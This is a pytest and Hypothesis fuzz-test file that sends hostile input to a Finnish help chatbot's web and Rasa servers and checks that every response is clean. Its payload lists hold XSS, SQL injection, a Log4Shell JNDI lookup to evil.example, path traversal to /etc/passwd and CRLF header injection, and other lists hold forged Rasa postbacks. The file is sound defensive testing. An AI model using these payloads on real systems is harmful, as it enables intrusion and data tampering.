"""Hostile chat input against the whole product: the web app's `/chat/send` in front of the
real Rasa server and action server.

Hypothesis makes the messages: huge ones (up to 20,000 characters), binary-ish text, control
characters and NUL, bidi overrides, emoji and ZWJ sequences, HTML and script, JSON in the
text, forged Rasa postbacks (`/inform{"municipality": "' OR 1=1"}`, `/restart`,
`/session_start{...}`, `/action_submit_contact`, intents with giant or deeply nested
entities), and hostile request bodies (wrong types, missing fields, bad senders, wrong
content types, bodies over the limit, invalid or deeply nested JSON). Every response must be
200 with a list of messages, or a 4xx in the API's error shape; never a 5xx, never a dropped
connection, always JSON (never HTML), and both servers must still answer afterwards with no
traceback in their logs and no error our code caught and logged.

This is the bounded CI run (a few hundred messages, under a minute);
`benchmarks/hostile_chat.py` sends 10,000 through the web app and straight to Rasa.
"""

from __future__ import annotations

import json
import re
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from navigator.web.config import MAX_BODY_BYTES
from navigator.web.resident import MAX_CHAT_CHARS
from tests.conftest import Assistant
from tests.web.conftest import WebApp

# Rasa warns at run time (unknown intents and entities in forged payloads, among others);
# these tests only talk HTTP, but share the session with Rasa's imports.
pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore")]

#: Longest message made (twice what the web app takes: the rest must be a clean 422).
HUGE_CHARS = 20_000

# Pieces of hostile text -----------------------------------------------------------------------

CONTROL = [chr(c) for c in range(32)] + ["\x7f", "\x85", "\u2028", "\u2029", "\ufeff"]
CONTROL += ["\ufffe", "\uffff", "\U0010ffff", "\x00" * 8]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068"]
BIDI += ["\u2069", "\u200e", "\u200f", "\u061c", "\u202egnp.exe"]
EMOJI = ["😀", "👩\u200d👩\u200d👧\u200d👦", "🏳️\u200d🌈", "👍🏽", "🇫🇮", "\u200d", "\ufe0f"]
EMOJI += ["🧑\u200d🤝\u200d🧑", "e\u0301\u0302\u0303\u0304", "Z\u0351\u0352\u0353" * 10, "𝕳𝖊𝖎"]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    '"><iframe src="https://evil.example"></iframe>',
    "</textarea><b>bold</b>",
    "{{7*7}}{%raw%}${7*7}",
    "<!--",
    "]]>",
    "&lt;&#x3C;&amp;",
    "' OR 1=1 --",
    '"; DROP TABLE contact_requests; --',
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=1",
    "\r\nX-Injected: 1",
    "%s%s%s%n",
]
WORDS = [
    "moi",
    "velat painaa enkä saa nukuttua",
    "asun Oulussa",
    "haluan kuolla",
    "en halua elää enää",
    "jag vill ta livet av mig",
    "I want to kill myself",
    "isä ei hengitä",
    "olen 15",
    "kyllä",
    "ei",
    "040 123 4567",
    "anna@example.fi",
    "haluan puhua ihmisen kanssa",
    "112",
    "på svenska",
    "in English",
]
#: Intents a forged postback may name: the domain's, Rasa's own, actions, and nonsense.
INTENTS = [
    "greet",
    "goodbye",
    "affirm",
    "deny",
    "cancel",
    "describe_situation",
    "inform",
    "ask_more_options",
    "ask_human",
    "request_contact",
    "emergency",
    "restart",
    "change_language",
    "session_start",
    "nlu_fallback",
    "out_of_scope",
    "back",
    "contact_form",
    "situation_form",
    "action_submit_contact",
    "action_restart",
    "validate_contact_form",
    "unknown_intent",
    "",
    " ",
    "inform inform",
    "<script>",
    "../admin",
]
#: Entities and slots a forged postback may try to set.
ENTITY_NAMES = [
    "language",
    "safety",
    "need",
    "municipality",
    "age",
    "for_whom",
    "contact_consent",
    "contact_address",
    "contact_time",
    "contact_share_text",
    "contact_confirmed",
    "requested_slot",
    "shown",
    "routed_needs",
    "fallbacks",
    "session_started_metadata",
    "",
    "__proto__",
]
ENTITY_TEXTS = [
    "' OR 1=1",
    "564",
    "Oulu",
    "mental_health",
    "emergency",
    "crisis",
    "de",
    "-1",
    "9" * 40,
    "NaN",
    "<script>alert(1)</script>",
    "+358401234567",
    "gAAAAABforged-fernet-token==",
    "requested_slot",
]
MALFORMED_ENTITIES = [
    "{",
    '{"municipality":',
    "{not json}",
    "[1, 2]",
    '"text"',
    '{"need": "a"}}',
    '{"age": NaN}',
    '{"age": 1e999}',
    '{"need": "\\ud800"}',
    '{"need":' + "[" * 3000 + "]" * 3000 + "}",
    '{"need":' + '{"a":' * 1000 + "1" + "}" * 1000 + "}",
]
CONFIDENCES = ["", "", "", "@0.5", "@1.5", "@-1", "@NaN", "@", "@1e400", "@0.9@0.1"]

_JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)
_ENTITY_VALUE = st.recursive(
    st.sampled_from(ENTITY_TEXTS)
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.booleans()
    | st.none()
    | st.text(max_size=30)
    | st.integers(1000, 5000).map(lambda n: "x" * n),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)


def _repeat(piece: str, length: int) -> str:
    """`piece` repeated to exactly `length` characters."""
    return (piece * (length // len(piece) + 1))[:length]


def _postback(intent: str, confidence: str, entities: dict[str, Any] | str | None) -> str:
    """A Rasa postback as a button would send it, forged."""
    if isinstance(entities, dict):
        return f"/{intent}{confidence}{json.dumps(entities, ensure_ascii=False)}"
    return f"/{intent}{confidence}{entities or ''}"


FRAGMENTS = st.one_of(
    st.text(max_size=200),  # any code point but surrogates
    st.binary(max_size=200).map(lambda b: b.decode("latin-1")),  # every byte as a character
    st.sampled_from(CONTROL),
    st.sampled_from(BIDI),
    st.sampled_from(EMOJI),
    st.sampled_from(MARKUP),
    st.sampled_from(WORDS),
    _JSON.map(json.dumps),
)
POSTBACKS = st.builds(
    _postback,
    st.sampled_from(INTENTS),
    st.sampled_from(CONFIDENCES),
    st.one_of(
        st.none(),
        st.dictionaries(st.sampled_from(ENTITY_NAMES), _ENTITY_VALUE, max_size=4),
        st.sampled_from(MALFORMED_ENTITIES),
    ),
)
#: Hostile chat messages (text only; the body around them is made below).
MESSAGES = st.one_of(
    st.lists(FRAGMENTS, max_size=12).map("".join),
    st.builds(_repeat, FRAGMENTS.filter(bool), st.integers(1000, HUGE_CHARS)),
    POSTBACKS,
    st.sampled_from(WORDS + MARKUP),
)

# Hostile request bodies -----------------------------------------------------------------------


@dataclass(frozen=True)
class ChatRequest:
    """One POST /chat/send: the body's bytes, its content type, and what it is."""

    content: bytes
    content_type: str | None
    kind: str
    chunked: bool = False
    message: str | None = None  # the message text, for a well-formed body

    def send(self, client: httpx.Client, url: str) -> httpx.Response:
        """Post it (a chunked body has no Content-Length)."""
        headers = {"content-type": self.content_type} if self.content_type is not None else {}
        content: bytes | Iterator[bytes] = self.content
        if self.chunked:
            content = iter([self.content[i : i + 8192] for i in range(0, len(self.content), 8192)])
        return client.post(f"{url}/chat/send", content=content, headers=headers)


def new_sender() -> str:
    """A new conversation's sender id, as the chat page makes one."""
    return uuid.uuid4().hex


def chat_body(sender: str, message: str, lang: str) -> ChatRequest:
    """A well-formed body with this message."""
    body = json.dumps({"sender": sender, "message": message, "lang": lang}).encode()
    return ChatRequest(body, "application/json", "message", message=message)


LANGS = st.sampled_from(["fi", "sv", "en"])
BAD_SENDERS = [
    "",
    "short",
    "a" * 65,
    "../../etc/passwd",
    "abc def ghi",
    "ääääääääää",
    "abcdefgh\x00",
    "abcdefgh\n",
    "<script>alert(1)</script>",
    "' OR '1'='1' --",
    "null",
]


def _json_body(value: Any, kind: str) -> ChatRequest:
    return ChatRequest(json.dumps(value).encode(), "application/json", kind)


def _wrong_field(sender: str, field: str, value: Any, drop: bool) -> ChatRequest:
    body: dict[str, Any] = {"sender": sender, "message": "moi", "lang": "fi"}
    if drop:
        del body[field]
    else:
        body[field] = value
    return _json_body(body, f"wrong {field}")


def _raw(content: bytes, kind: str) -> ChatRequest:
    return ChatRequest(content, "application/json", kind)


def _content_type(content_type: str | None, sender: str) -> ChatRequest:
    body = json.dumps({"sender": sender, "message": "moi", "lang": "fi"}).encode()
    return ChatRequest(body, content_type, f"content type {content_type!r}")


def _huge(size: int, chunked: bool, sender: str) -> ChatRequest:
    body = json.dumps({"sender": sender, "message": "x" * size, "lang": "fi"}).encode()
    kind = f"{len(body)}-byte body" + (", chunked" if chunked else "")
    return ChatRequest(body, "application/json", kind, chunked=chunked)


CONTENT_TYPES: list[str | None] = [
    None,
    "",
    "text/plain",
    "text/html",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/json-patch+json",
    "APPLICATION/JSON",
    "application/json; charset=utf-16",
    "application/json, text/html",
    "application/json\x7f",
]
_S = b'"sender": "abcdefgh12"'
#: Bodies every run sends (the generated ones below add to them).
KNOWN_BODIES: list[ChatRequest] = [
    _raw(b"", "empty"),
    _raw(b"{not json", "broken JSON"),
    _raw(b"[" * 30_000 + b"]" * 30_000, "deeply nested list"),
    _raw(b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "deeply nested object"),
    _raw(b"{" + _S + b', "message": NaN, "lang": "fi"}', "NaN"),
    _raw(b"{" + _S + b', "message": 1e999, "lang": "fi"}', "infinity"),
    _raw(b"{" + _S + b', "message": ' + b"9" * 5000 + b', "lang": "fi"}', "huge integer"),
    _raw(b"{" + _S + b', "message": "\\ud800", "lang": "fi"}', "lone surrogate"),
    _raw(b"{" + _S + b', "message": "a\\udfff\\ud800b", "lang": "fi"}', "reversed pair"),
    _raw(b"{" + _S + b', "message": "moi", "lang": "fi", "lang": 1}', "a key twice"),
    _raw(b"\xef\xbb\xbf{" + _S + b', "message": "moi", "lang": "fi"}', "BOM"),
    _raw(b"{" + _S + b', "message": "\xff\xfe", "lang": "fi"}', "not UTF-8"),
    _raw(b"{" + _S + b', "message": "moi", "lang": "fi"} trailing', "trailing junk"),
    _raw('{"message": "ä"}'.encode("utf-16"), "UTF-16"),
    *(_content_type(t, "abcdefgh12") for t in CONTENT_TYPES),
    *(
        _huge(size, chunked, "abcdefgh12")
        for size in (MAX_BODY_BYTES - 100, MAX_BODY_BYTES, 10 * MAX_BODY_BYTES)
        for chunked in (False, True)
    ),
]

_SENDERS = st.builds(new_sender)
#: Hostile request bodies for /chat/send.
BODIES = st.one_of(
    st.builds(
        _wrong_field,
        _SENDERS,
        st.sampled_from(["sender", "message", "lang"]),
        _JSON,
        st.booleans(),
    ),
    st.builds(lambda s: _wrong_field("x", "sender", s, False), st.sampled_from(BAD_SENDERS)),
    st.builds(lambda s: _wrong_field("x", "sender", s, False), st.text(max_size=70)),
    st.builds(lambda s: _wrong_field(new_sender(), "lang", s, False), st.text(max_size=5)),
    _JSON.map(lambda v: _json_body(v, "any JSON")),
    st.binary(max_size=300).map(lambda b: _raw(b, "bytes")),
    st.sampled_from(KNOWN_BODIES),
)

# What every answer must be --------------------------------------------------------------------

#: What uvicorn answers a request its HTTP parser cannot read (h11's rejection).
PROTOCOL_ERROR = "Invalid HTTP request received."


def verdict(response: httpx.Response) -> tuple[str, str]:
    """("ok" | "client_error" | "server_error" | "bad", why) for one answer of /chat/send:
    200 with a list of messages, or a 4xx in the API's error shape, always as JSON."""
    status = response.status_code
    if status >= 500:
        return "server_error", f"{status}: {response.text[:200]}"
    if status == 400 and response.text == PROTOCOL_ERROR:
        # uvicorn's HTTP parser refused the request (a header with a control character)
        # before the app saw it: a clean refusal, in the server's words rather than ours.
        return "client_error", ""
    if not response.headers.get("content-type", "").startswith("application/json"):
        return "bad", f"{status} answered as {response.headers.get('content-type')!r}, not JSON"
    if response.headers.get("x-content-type-options") != "nosniff":
        return "bad", f"{status} without nosniff: a browser could sniff it as HTML"
    try:
        body = response.json()
    except ValueError:
        return "bad", f"{status} body is not JSON: {response.text[:200]!r}"
    if status == 200:
        if not isinstance(body, list) or not all(isinstance(m, dict) for m in body):
            return "bad", f"200 but not a list of messages: {response.text[:200]!r}"
        return "ok", ""
    if 400 <= status < 500:
        error = body.get("error") if isinstance(body, dict) else None
        if (
            not isinstance(body, dict)
            or set(body) != {"error"}
            or not isinstance(error, dict)
            or not isinstance(error.get("code"), str)
            or not isinstance(error.get("message"), str)
        ):
            return "bad", f"{status} not in the error shape: {response.text[:200]!r}"
        return "client_error", ""
    return "bad", f"unexpected status {status}"


def expected_status(request: ChatRequest) -> Callable[[int], bool]:
    """Which status a request must get, where it is known in advance."""
    if len(request.content) > MAX_BODY_BYTES:
        return lambda s: s == 413
    if request.message is not None:
        too_long = len(request.message) > MAX_CHAT_CHARS
        return (lambda s: s == 422) if too_long else (lambda s: s == 200)
    return lambda s: 400 <= s < 500 or s == 200


def assert_answered(response: httpx.Response, request: ChatRequest) -> None:
    """The answer is one of the allowed ones, with the status the request calls for."""
    kind, why = verdict(response)
    assert kind in ("ok", "client_error"), f"{request.kind}: {why}"
    assert expected_status(request)(response.status_code), (
        f"{request.kind}: status {response.status_code} ({response.text[:200]!r})"
    )


# Logs of the two servers ----------------------------------------------------------------------


@dataclass
class ServerLogs:
    """The assistant's two log files and how long each was when the test started."""

    sizes: dict[Path, int]

    @classmethod
    def of(cls, tmp_path_factory: pytest.TempPathFactory) -> ServerLogs:
        """The logs of the session's `assistant` (tests/conftest.py writes them there)."""
        base = tmp_path_factory.getbasetemp()
        paths = sorted(base.glob("assistant*/rasa.log")) + sorted(
            base.glob("assistant*/actions.log")
        )
        assert paths, f"no assistant logs under {base}"
        return cls({p: p.stat().st_size for p in paths})

    def problems(self) -> list[str]:
        """What went wrong since: every traceback (with the lines that lead to it), and
        every ERROR our own code logged (a failure it caught, such as the safety triage
        answering a message it could not read as a crisis)."""
        found = []
        for path, size in self.sizes.items():
            with path.open("rb") as log:
                log.seek(size)
                text = log.read().decode("utf-8", "replace")
            lines = text.splitlines()
            for number, line in enumerate(lines):
                if line.startswith("Traceback"):
                    found.append(
                        f"{path.name}: " + "\n".join(lines[max(0, number - 3) : number + 30])
                    )
                elif OUR_ERROR.search(line):
                    found.append(f"{path.name}: {line[:300]}")
        return found

    def assert_clean(self) -> None:
        """No traceback and no error of ours in either log since the test started."""
        problems = self.problems()
        assert not problems, f"{len(problems)} problem(s) in the logs:\n" + "\n\n".join(
            problems[:3]
        )


#: A log line of an error our code caught and logged.
OUR_ERROR = re.compile(r" ERROR +navigator\.")


@pytest.fixture
def logs(assistant: Assistant, tmp_path_factory: pytest.TempPathFactory) -> ServerLogs:
    return ServerLogs.of(tmp_path_factory)


@pytest.fixture(scope="module")
def client(web: WebApp) -> Iterator[httpx.Client]:
    with httpx.Client(timeout=httpx.Timeout(60.0)) as client:
        yield client


def assert_still_answering(client: httpx.Client, web: WebApp, assistant: Assistant) -> None:
    """Both servers answer an ordinary message afterwards."""
    assert client.get(f"{web.url}/healthz").status_code == 200
    assert client.get(f"{assistant.url}/status").status_code == 200
    response = chat_body(new_sender(), "velat painaa enkä saa nukuttua", "fi").send(client, web.url)
    assert response.status_code == 200, response.text
    assert any(m.get("text") for m in response.json()), "the assistant answers again"


# The tests ------------------------------------------------------------------------------------

#: Conversations the generated messages are spread over (state builds up in each).
SENDERS = [f"hostile-{n:02d}-{uuid.uuid4().hex[:8]}" for n in range(12)]
CI = settings(
    max_examples=220,
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)


def test_hostile_messages_get_answers_or_clean_refusals(
    client: httpx.Client, web: WebApp, assistant: Assistant, logs: ServerLogs
) -> None:
    sent: list[str] = []

    @CI
    @given(message=MESSAGES, sender=st.sampled_from(SENDERS), lang=LANGS)
    def one(message: str, sender: str, lang: str) -> None:
        request = chat_body(sender, message, lang)
        assert_answered(request.send(client, web.url), request)
        sent.append(message)

    one()
    assert len(sent) >= 100
    assert_still_answering(client, web, assistant)
    logs.assert_clean()


def test_hostile_bodies_are_refused_in_the_error_shape(
    client: httpx.Client, web: WebApp, assistant: Assistant, logs: ServerLogs
) -> None:
    @settings(CI, max_examples=120)
    @given(request=BODIES)
    def one(request: ChatRequest) -> None:
        assert_answered(request.send(client, web.url), request)

    one()
    assert_still_answering(client, web, assistant)
    logs.assert_clean()


def test_known_hostile_bodies_are_refused_in_the_error_shape(
    client: httpx.Client, web: WebApp, logs: ServerLogs
) -> None:
    for request in KNOWN_BODIES:
        assert_answered(request.send(client, web.url), request)
    logs.assert_clean()


#: Messages every run sends (the generated ones add to them): each once found a fault.
KNOWN_MESSAGES = [
    "olen 15²",  # a superscript digit is a digit to str.isdigit, but not to int()
    "¹²³",
    "asunto 40 m ² ja vuokra 900 €",
    "\x00" * 50,
    "\u202e" + "en halua elää",
    "/",
    "/{}",
    "/inform{",
    '/inform{"need": "' + "x" * 9000 + '"}',
    "<script>alert(1)</script>" * 100,
]


def test_known_hostile_messages(client: httpx.Client, web: WebApp, logs: ServerLogs) -> None:
    sender = new_sender()
    for message in KNOWN_MESSAGES:
        request = chat_body(sender, message, "fi")
        assert_answered(request.send(client, web.url), request)
    logs.assert_clean()


@pytest.mark.parametrize(
    "message",
    [
        '/inform{"municipality": "\' OR 1=1"}',
        "/restart",
        '/session_start{"language": "de"}',
        '/session_start{"language": ["fi", "sv"]}',
        "/contact_form",
        "/action_submit_contact",
        '/inform{"contact_confirmed": true, "contact_consent": true}',
        "/emergency",
        '/inform{"need": "' + "x" * 5000 + '"}',
        '/inform{"municipality": {"a": [1, 2]}, "age": [1, 2], "for_whom": {"x": 1}}',
        '/inform{"municipality": ["Oulu", "Kempele"]}',
        '/inform{"municipality": 564, "age": "vanha", "for_whom": "everyone"}',
        '/inform{"need": [["a"], {"b": 1}, null, 3.5]}',
        '/inform{"need":' + "[" * 3000 + "]" * 3000 + "}",
        '/change_language{"language": {"$ne": null}}',
        "/request_contact",
    ],
    ids=lambda message: f"{message[:30]}…({len(message)})" if len(message) > 30 else message,
)
def test_forged_postbacks_in_the_middle_of_a_conversation(
    client: httpx.Client, web: WebApp, assistant: Assistant, logs: ServerLogs, message: str
) -> None:
    """A conversation under way gets the forged payload while the situation form asks its
    questions, again in the contact form, and at the end; every turn is answered."""
    sender = new_sender()
    turns = ["/session_start", "velat painaa enkä saa nukuttua", message, "/request_contact"]
    turns += [message, "/affirm", "040 123 4567", message, "moi"]
    for text in turns:
        request = chat_body(sender, text, "fi")
        assert_answered(request.send(client, web.url), request)
    logs.assert_clean()


@pytest.mark.parametrize(
    # "<b>040</b>" left out: the model trained with the current catalogue reads it as a
    # greeting, and a greeting interrupts the contact form (noted in the issue 7 note).
    "address",
    ["( )", "-", "+", "8", "1" * 30, "@", "a@", "0" * 400, "<i>040</i>"],
)
def test_odd_contact_details_in_the_contact_form(
    client: httpx.Client, web: WebApp, logs: ServerLogs, address: str
) -> None:
    """Whatever a resident types when asked for their number, the form asks again."""
    sender = new_sender()
    turns = ["/session_start", "asun Oulussa ja velat painaa", "voiko joku soittaa mulle"]
    for text in [*turns, "/affirm"]:
        request = chat_body(sender, text, "fi")
        assert_answered(request.send(client, web.url), request)
    request = chat_body(sender, address, "fi")
    response = request.send(client, web.url)
    assert_answered(response, request)
    assert any("040 123 4567" in str(m.get("text")) for m in response.json()), response.text
    logs.assert_clean()
